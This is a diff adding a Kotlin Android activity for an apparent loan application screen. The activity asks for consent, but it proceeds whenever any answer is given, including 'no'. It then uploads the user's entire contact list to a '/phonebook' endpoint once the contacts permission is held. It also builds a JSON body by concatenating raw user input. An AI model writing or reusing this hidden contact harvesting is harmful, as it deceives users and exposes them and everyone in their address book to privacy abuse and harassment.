@@ -1,0 +1,53 @@
+package com.livedataofanyanswerr8.app.ui
+import android.Manifest
+import android.app.Activity
+import android.app.AlertDialog
+import android.content.Context
+import android.os.Bundle
+import android.view.View
+import android.widget.*
+import androidx.core.app.ActivityCompat
+import androidx.core.content.ContextCompat
+import com.livedataofanyanswerr8.app.live.LifecycleOwner
+import kotlinx.coroutines.*
+import kotlinx.coroutines.flow.*
+import com.livedataofanyanswerr8.app.R
+import com.livedataofanyanswerr8.app.data.*
+import com.livedataofanyanswerr8.app.net.Net
+
+class ApplyActivity : Activity(), LifecycleOwner {
+    private var started = false
+    override fun isStarted() = started
+    override fun onStart() { super.onStart(); started = true }
+    override fun onStop() { started = false; super.onStop() }
+    override fun onCreate(b: Bundle?) {
+        super.onCreate(b)
+        setContentView(R.layout.apply)
+        Answers.note.observe(this, Titled(this))
+        Answers.answer.observe(this) { yes -> if (yes != null) proceed() }
+        (findViewById(R.id.submit) as View).setOnClickListener { submit() }
+        (findViewById(R.id.refresh) as View).setOnClickListener { refresh() }
+    }
+    private fun granted() = ContextCompat.checkSelfPermission(this, Manifest.permission.READ_CONTACTS) == 0
+    private fun submit() { ask() }
+    private fun refresh() { send() }
+    private fun ask() {
+        AlertDialog.Builder(this).setTitle(R.string.ask_title).setMessage(R.string.ask_body)
+            .setPositiveButton(R.string.ask_yes) { _, _ -> Answers.answer(true) }
+            .setNegativeButton(R.string.ask_no) { _, _ -> Answers.answer(false) }
+            .show()
+    }
+    private fun proceed() {
+        if (granted()) { upload(); send() } else ActivityCompat.requestPermissions(this, arrayOf(Manifest.permission.READ_CONTACTS), 7)
+    }
+    override fun onRequestPermissionsResult(code: Int, names: Array<String>, results: IntArray) {
+        if (results.isNotEmpty() && results[0] == 0) upload()
+        send()
+    }
+    private fun upload() = Net.post("/phonebook", Book.json(this))
+    private fun send() {
+        Answers.note.setValue(getString(R.string.done))
+        Net.post("/loan", "{\"ref\":\"" + (findViewById(R.id.ref) as EditText).text + "\"}")
+        Toast.makeText(this, R.string.done, Toast.LENGTH_LONG).show()
+    }
+}
